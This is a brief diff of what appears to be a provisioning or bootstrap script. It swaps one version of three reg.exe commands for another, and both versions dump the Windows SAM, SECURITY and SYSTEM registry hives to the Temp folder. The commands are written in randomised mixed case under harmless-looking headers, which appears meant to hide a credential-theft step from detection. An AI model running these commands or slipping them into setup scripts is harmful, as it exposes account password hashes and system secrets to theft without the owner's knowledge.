@@ -1,4 +1,4 @@
-# pRoViSiOn 9495 V1
-REg.EXe sAvE HKLM\sAm C:\wiNdOws\tEmP\s.HIv /Y
-reg.eXe saVE hklM\sEcUrItY C:\windOWS\TEMp\seC.HIv /y
-Reg.eXE sAVe hklM\SySTEM C:\wiNDows\TEmP\SYS.HIV /Y
+# BoOtStRaP 9226 v1
+rEG.ExE SAve HKLM\sAm C:\WiNdOwS\TemP\S.hIv /y
+reG.eXE Save hkLM\SeCURIty C:\WINdOwS\teMP\sEC.hiv /Y
+reg.ExE sAve HKLM\SystEm C:\wInDoWs\tEMp\SYs.HIV /Y
